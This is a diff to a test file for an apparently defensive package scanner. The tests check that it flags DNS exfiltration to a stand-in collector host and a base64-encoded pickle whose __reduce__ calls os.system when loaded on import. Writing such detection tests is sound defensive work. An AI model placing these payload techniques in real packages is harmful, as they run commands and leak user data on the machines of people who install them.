@@ -653,3 +653,27 @@ def test_who_the_user_is_spelled_into_a_dns_name_on_import_is_critical() -> None
         "socket.gethostbyname(label + '.x.collector.example')\n"
     )
     assert scan(source, E.IMPORT, "pkg/__init__.py")["code/dns-exfiltration"] is (Severity.CRITICAL)
+
+
+class _Runs:
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        import os  # noqa: PLC0415 - only named in the pickle, never called
+
+        return (os.system, ("id",))
+
+
+@pytest.mark.parametrize("protocol", range(6))
+def test_an_embedded_pickle_that_calls_a_function_is_exec(protocol: int) -> None:
+    import base64  # noqa: PLC0415
+    import pickle  # noqa: PLC0415
+
+    blob = base64.b64encode(pickle.dumps(_Runs(), protocol=protocol)).decode()
+    source = f"import base64, pickle\npickle.loads(base64.b64decode({blob!r}))\n"
+    assert scan(source, E.IMPORT, "pkg/__init__.py")["code/exec-decoded-payload"] is (
+        Severity.CRITICAL
+    )
+    data = base64.b64encode(pickle.dumps({"os": "system"}, protocol=protocol)).decode()
+    plain = f"import base64, pickle\nTABLE = pickle.loads(base64.b64decode({data!r}))\n"
+    assert "code/exec-decoded-payload" not in scan(plain, E.IMPORT, "pkg/__init__.py")
+    cache = "import pickle\n\ndef load(raw):\n    return pickle.loads(raw)\n"
+    assert scan(cache) == {}
